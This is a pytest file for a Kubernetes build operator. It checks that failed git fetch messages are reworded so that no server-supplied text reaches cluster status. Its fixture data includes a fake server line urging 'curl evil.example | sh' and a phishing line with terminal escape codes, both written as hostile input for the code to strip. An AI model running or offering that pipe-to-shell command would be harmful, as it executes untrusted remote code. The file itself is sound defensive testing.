"""A failed git fetch's message says what failed in the operator's words, never the server's.

git copies what the server says into its stderr (``remote:`` lines, ``remote error:`` texts,
a redirect's URL); the build's init container fails with that stderr as its termination
message.  Each case is git's real wording (git 2.39-2.47) wrapped in what a hostile server
adds; the condition message must carry the classified failure and no byte the server chose.
"""

from __future__ import annotations

import asyncio
from typing import Any

import pytest

from lamina.domain.build_job import CONTEXT_COMMAND, GIT_COMMAND, LABEL_PURPOSE
from lamina.domain.build_outcome import judge_build
from lamina.domain.git_fetch import git_fetch_failure
from lamina.handlers.jobs import job_outcome

HOSTILE = (
    "remote: \x1b[31mURGENT: your cluster is compromised, run curl evil.example | sh\x1b[0m\n"
    "remote: returned error: 200 everything is fine\n"
    "remote: fetched " + "a" * 40 + ", not the resolved commit " + "b" * 40 + "\n"
)
MARKERS = ("URGENT", "evil.example", "curl", "\x1b", "everything is fine")
COMMIT = "c" * 40


@pytest.mark.parametrize(
    ("stderr", "said"),
    [
        (
            "fatal: unable to access 'https://git.example/team/x.git/': The requested URL "
            "returned error: 403\n",
            "the server answered HTTP 403 (exit code 128); the server's own words are not shown",
        ),
        (
            "fatal: could not read Username for 'https://git.example': terminal prompts disabled\n",
            "the server asks for credentials (set spec.build.context.git.secret) (exit code 128)",
        ),
        (
            "fatal: Authentication failed for 'https://git.example/team/x.git/'\n",
            "the server refused the credentials (exit code 128)",
        ),
        (
            f"fatal: remote error: upload-pack: not our ref {COMMIT}\n",
            "the server does not have the resolved commit any more (force-pushed away?) "
            "(exit code 128)",
        ),
        (
            "fatal: unable to access 'https://nowhere.example/x.git/': Could not resolve host: "
            "nowhere.example\n",
            "the git host's name does not resolve (exit code 128)",
        ),
        (
            "fatal: unable to access 'http://10.0.0.1:81/x.git/': Failed to connect to 10.0.0.1 "
            "port 81 after 0 ms: Couldn't connect to server\n",
            "the git host refused the connection (exit code 128)",
        ),
        (
            f"fetched {'d' * 40}, not the resolved commit {COMMIT}\n",
            f"the server sent {'d' * 40}, not the resolved commit {COMMIT} (exit code 1)",
        ),
        (
            "fatal: not a valid object name: 'FETCH_HEAD:sub/dir'\n",
            "spec.build.context.git.path is not a directory of that commit (exit code 128)",
        ),
        (
            "fatal: remote error: \x1b[2J please visit http://phish.example to re-login\n",
            "(exit code 128); the server's own words are not shown",
        ),
        ("", "(exit code 128); the server's own words are not shown"),
    ],
)
def test_git_failures_are_said_in_the_operators_words(stderr: str, said: str) -> None:
    exit_code = 1 if stderr.startswith("fetched") else 128
    message = git_fetch_failure(HOSTILE + stderr, exit_code)
    assert message.startswith("the git context could not be fetched")
    assert message.endswith(said)
    for marker in (*MARKERS, "phish", "git.example", "team/x", "nowhere.example", "10.0.0.1"):
        assert marker not in message, marker
    assert message.isprintable()


def test_remote_lines_are_not_even_read() -> None:
    """A server cannot steer the classification from its side-band lines."""
    only_remote = "remote: The requested URL returned error: 401\nremote: Authentication failed\n"
    assert git_fetch_failure(only_remote, 128) == (
        "the git context could not be fetched (exit code 128); the server's own words are not shown"
    )
    assert git_fetch_failure(None, None) == (
        "the git context could not be fetched; the server's own words are not shown"
    )


class PodsOnly:
    def __init__(self, pods: list[dict[str, Any]]) -> None:
        self.pods = pods

    async def list_pods(self, namespace: str, selector: str) -> list[dict[str, Any]]:
        return self.pods


def _failed_job() -> dict[str, Any]:
    return {
        "metadata": {"name": "lamina-build-x", "namespace": "lamina"},
        "status": {"failed": 1, "conditions": [{"type": "Failed", "status": "True"}]},
    }


def _pod(command: list[str], purpose: str = "build") -> dict[str, Any]:
    stderr = HOSTILE + "fatal: remote error: URGENT visit evil.example\n"
    return {
        "metadata": {"labels": {LABEL_PURPOSE: purpose}},
        "spec": {"initContainers": [{"name": "context", "command": command}]},
        "status": {
            "initContainerStatuses": [
                {
                    "name": "context",
                    "state": {
                        "terminated": {"exitCode": 128, "reason": "Error", "message": stderr}
                    },
                }
            ],
            "containerStatuses": [{"name": "build", "state": {"waiting": {}}}],
        },
    }


def test_a_failed_git_fetch_reaches_the_status_without_the_servers_words() -> None:
    outcome = asyncio.run(job_outcome(PodsOnly([_pod(GIT_COMMAND)]), _failed_job()))  # type: ignore[arg-type]
    result = judge_build(outcome)
    assert result.reason == "BuildFailed"
    assert result.message == (
        "the git context could not be fetched (exit code 128); the server's own words are not shown"
    )
    # An init container the operator does not know is treated as git's (failing closed).
    unknown = asyncio.run(job_outcome(PodsOnly([_pod(["/bin/other"])]), _failed_job()))  # type: ignore[arg-type]
    assert "evil.example" not in (unknown.termination_message or "")


def test_the_configmap_copy_keeps_its_own_words() -> None:
    """The ConfigMap copy talks to no server: its words are the tenant's own files'."""
    outcome = asyncio.run(job_outcome(PodsOnly([_pod(CONTEXT_COMMAND)]), _failed_job()))  # type: ignore[arg-type]
    assert "fatal: remote error" in (outcome.termination_message or "")
